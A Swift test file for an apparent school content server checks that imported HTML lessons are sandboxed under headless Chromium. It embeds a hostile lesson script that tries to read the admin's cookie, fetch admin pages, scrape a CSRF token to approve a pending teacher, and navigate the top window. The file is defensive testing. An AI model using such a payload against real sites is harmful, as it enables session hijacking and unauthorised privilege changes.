import Foundation
import SatchelNode
import SatchelServer
import SatchelStore
import SatchelSync
import SatchelTestSupport
import Testing

/// Bundle content cannot act as a teacher or an admin: a hostile lesson, framed in the node's own resource page in
/// headless Chromium with an admin's session cookie set, tries to read the cookie, read `/me` and the admin pages,
/// approve a pending teacher with the CSRF token it would read there, and navigate the page around it. A well-behaved
/// HTML5 lesson with relative styles, pictures, a script and JSON data keeps working under the same sandbox.
@Suite(.serialized) struct BundleSandboxTests {
    static let hostileLesson = """
        <!DOCTYPE html><html><head><meta charset="utf-8"><title>分数</title></head><body><h1>认识分数</h1>
        <script>
        var results = {};
        try { results.cookie = "read:" + document.cookie; } catch (e) { results.cookie = "blocked"; }
        function read(name, path) {
            return fetch(path, {credentials: "include"}).then(function (r) { return r.text(); }).then(
                function (text) { results[name] = "read:" + text.length; return text; },
                function () { results[name] = "blocked"; return ""; });
        }
        read("me", "/me").then(function () { return read("admin", "/admin/teachers"); }).then(function (page) {
            var found = page.match(/name="csrf" value="([^"]*)"/);
            return fetch("/admin/teachers/PENDING/approve", {
                method: "POST", credentials: "include",
                headers: {"Content-Type": "application/x-www-form-urlencoded"},
                body: "csrf=" + encodeURIComponent(found ? found[1] : "")
            }).then(function (r) { results.approve = "answered:" + r.status; },
                function () { results.approve = "unreadable"; });
        }).then(function () {
            try { top.location.href = "REPORT?navigated=1"; results.top = "navigated"; }
            catch (e) { results.top = "blocked"; }
            var query = Object.keys(results).map(function (k) { return k + "=" + encodeURIComponent(results[k]); });
            new Image().src = "REPORT?" + query.join("&");
        });
        </script></body></html>
        """

    static let goodLesson = """
        <!DOCTYPE html><html><head><meta charset="utf-8"><title>实验</title>
        <link rel="stylesheet" href="style.css"></head><body><h1 id="t">杠杆实验</h1>
        <img id="p" src="img/lever.svg" alt="">
        <script src="app.js"></script></body></html>
        """

    static let goodScript = """
        var results = {};
        window.addEventListener("load", function () {
            results.style = getComputedStyle(document.getElementById("t")).color;
            results.picture = document.getElementById("p").naturalWidth;
            fetch("data/steps.json").then(function (r) { return r.json(); }).then(
                function (data) { results.data = data.steps.length; },
                function () { results.data = "failed"; }
            ).then(function () {
                var query = Object.keys(results).map(function (k) { return k + "=" + encodeURIComponent(results[k]); });
                new Image().src = "REPORT?" + query.join("&");
            });
        });
        """

    @Test func aHostileLessonCannotActAsTheAdmin() async throws {
        let chromium = try Chromium.find()
        let listener = try await ReportListener()
        let test = try TestNode()
        let pending = TeacherRecord(
            username: "li", name: "李老师", teacherNumber: nil, subjects: "数学", role: .teacher, status: .pending,
            passwordHash: try PasswordHasher.hash("li-secret-1"))
        try test.node.database.addTeacher(pending)
        try test.node.database.addTeacher(
            TeacherRecord(
                username: "admin", name: "王校长", teacherNumber: nil, subjects: "", role: .admin, status: .active,
                passwordHash: try PasswordHasher.hash("admin-secret")))
        let lesson = Self.hostileLesson.replacingOccurrences(of: "REPORT", with: listener.reportURL)
            .replacingOccurrences(of: "PENDING", with: pending.id.uuidString.lowercased())
        _ = try test.importer().importBundle(at: try test.pack(["fractions/index.html": lesson], id: "hostile"))
        let report = try await LiveServer.serving(test.node) { server in
            let login = try await CurlTransport().post(
                server.baseURL + "/login", body: Data("username=admin&password=admin-secret".utf8),
                headers: ["Content-Type": "application/x-www-form-urlencoded"])
            let setCookie = login.headers["set-cookie"] ?? ""
            let token = try #require(
                setCookie.split(separator: ";").first?.split(separator: "=", maxSplits: 1).last.map(String.init),
                "the admin could not log in: \(login.status)")
            return try await chromium.report(
                from: server.baseURL + "/resources/hostile/fractions", to: listener,
                cookie: (name: "satchel_session", value: token))
        }
        await listener.stop()
        #expect(report["navigated"] == nil, "the lesson navigated the page around it")
        #expect(report["cookie"] == "blocked", "the lesson read document.cookie: \(report)")
        #expect(report["me"] == "blocked", "the lesson read /me as the admin: \(report)")
        #expect(report["admin"] == "blocked", "the lesson read the admin page: \(report)")
        #expect(report["top"] == "blocked", "the lesson navigated the top window: \(report)")
        let after = try #require(try test.node.database.teacher("li"))
        #expect(after.status == .pending, "the lesson approved a teacher with the admin's session")
    }

    @Test func aWellBehavedLessonKeepsItsStylesPicturesScriptAndData() async throws {
        let chromium = try Chromium.find()
        let listener = try await ReportListener()
        let test = try TestNode()
        let svg =
            #"<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20"/></svg>"#
        _ = try test.importer().importBundle(
            at: try test.pack(
                [
                    "lever/index.html": Self.goodLesson, "lever/style.css": "#t { color: rgb(0, 128, 0); }",
                    "lever/img/lever.svg": svg,
                    "lever/app.js": Self.goodScript.replacingOccurrences(of: "REPORT", with: listener.reportURL),
                    "lever/data/steps.json": #"{"steps": ["放支点", "挂重物", "读刻度"]}"#,
                ], id: "labs"))
        let report = try await LiveServer.serving(test.node) { server in
            try await chromium.report(from: server.baseURL + "/resources/labs/lever", to: listener)
        }
        await listener.stop()
        #expect(report["style"] == "rgb(0, 128, 0)", "\(report)")
        #expect(report["picture"] == "40", "\(report)")
        #expect(report["data"] == "3", "\(report)")
    }
}

extension Chromium {
    /// Opens `url` with `cookie` set for 127.0.0.1 (through the DevTools protocol, as a logged-in browser would
    /// hold it) and returns what the page reports to `listener`.
    func report(
        from url: String, to listener: ReportListener, cookie: (name: String, value: String)
    ) async throws
        -> [String: String]
    {
        let run = try Run(self, ["--remote-debugging-port=0", "about:blank"])
        defer { _ = run.finish() }
        // Chromium prints its DevTools address on standard error once it listens: wait for that line.
        var address: Substring?
        let deadline = Date().addingTimeInterval(120)
        while address == nil, Date() < deadline, run.process.isRunning {
            let text = run.errorText()
            if let start = text.range(of: "DevTools listening on ") {
                address = text[start.upperBound...].prefix { !$0.isWhitespace }
            } else {
                try await Task.sleep(for: .milliseconds(20))
            }
        }
        guard let address else {
            throw ChromiumFailure(description: "Chromium gave no DevTools address: \(run.errorText().suffix(2000))")
        }
        let devTools = try DevToolsConnection(String(address))
        try devTools.call(
            "Storage.setCookies",
            #"{"cookies": [{"name": "\#(cookie.name)", "value": "\#(cookie.value)", "domain": "127.0.0.1", "#
                + #""path": "/", "httpOnly": true, "sameSite": "Lax"}]}"#)
        try devTools.call("Target.createTarget", #"{"url": "\#(url)"}"#)
        guard let report = await listener.next() else {
            throw ChromiumFailure(description: "the page at \(url) sent no report within two minutes")
        }
        return report
    }
}

/// Just enough of the Chrome DevTools protocol over a WebSocket (RFC 6455) to call a command on the browser and wait
/// for its answer.
private final class DevToolsConnection {
    private let descriptor: Int32
    private var nextId = 1

    /// Connects to `ws://127.0.0.1:PORT/devtools/browser/ID`.
    init(_ address: String) throws {
        guard let url = URL(string: address), let port = url.port else { throw ChromiumFailure(description: address) }
        guard let connected = try? LoopbackSocket.connect(port: port, receiveTimeout: 60) else {
            throw ChromiumFailure(description: "cannot reach DevTools at \(address)")
        }
        descriptor = connected
        try write(
            Array(
                ("GET \(url.path) HTTP/1.1\r\nHost: 127.0.0.1:\(port)\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                    + "Sec-WebSocket-Key: c2F0Y2hlbC10ZXN0LWtleQ==\r\nSec-WebSocket-Version: 13\r\n\r\n").utf8))
        var head: [UInt8] = []
        while !head.ends(with: Array("\r\n\r\n".utf8)) {
            head.append(try read(1)[0])
        }
        guard String(decoding: head, as: UTF8.self).hasPrefix("HTTP/1.1 101") else {
            throw ChromiumFailure(
                description: "DevTools refused the WebSocket: \(String(decoding: head, as: UTF8.self))")
        }
    }

    deinit { close(descriptor) }

    /// Sends `method` with `params` (JSON) and waits for its answer; throws if the answer is an error.
    func call(_ method: String, _ params: String) throws {
        let id = nextId
        nextId += 1
        let message = Array(#"{"id": \#(id), "method": "\#(method)", "params": \#(params)}"#.utf8)
        // One final text frame, masked as a client must (with a zero mask, which leaves the bytes as they are).
        var frame: [UInt8] = [0x81]
        if message.count < 126 {
            frame.append(0x80 | UInt8(message.count))
        } else {
            frame += [0x80 | 126, UInt8(message.count >> 8), UInt8(message.count & 0xFF)]
        }
        try write(frame + [0, 0, 0, 0] + message)
        while true {
            let answer = try readMessage()
            guard answer.contains(#""id":\#(id),"#) || answer.contains(#""id":\#(id)}"#) else { continue }
            if answer.contains(#""error""#) { throw ChromiumFailure(description: "\(method) failed: \(answer)") }
            return
        }
    }

    private func readMessage() throws -> String {
        let header = try read(2)
        var length = Int(header[1] & 0x7F)
        if length == 126 {
            length = try read(2).reduce(0) { $0 << 8 | Int($1) }
        } else if length == 127 {
            length = try read(8).reduce(0) { $0 << 8 | Int($1) }
        }
        return String(decoding: try read(length), as: UTF8.self)
    }

    private func read(_ count: Int) throws -> [UInt8] {
        var bytes = [UInt8](repeating: 0, count: count)
        var filled = 0
        while filled < count {
            let got = bytes.withUnsafeMutableBytes { recv(descriptor, $0.baseAddress! + filled, count - filled, 0) }
            guard got > 0 else { throw ChromiumFailure(description: "the DevTools connection ended") }
            filled += got
        }
        return bytes
    }

    private func write(_ bytes: [UInt8]) throws {
        let sent = bytes.withUnsafeBytes { send(descriptor, $0.baseAddress, $0.count, Int32(MSG_NOSIGNAL)) }
        guard sent == bytes.count else { throw ChromiumFailure(description: "could not write to DevTools") }
    }
}

extension Array where Element == UInt8 {
    fileprivate func ends(with suffix: [UInt8]) -> Bool {
        count >= suffix.count && Array(self[(count - suffix.count)...]) == suffix
    }
}
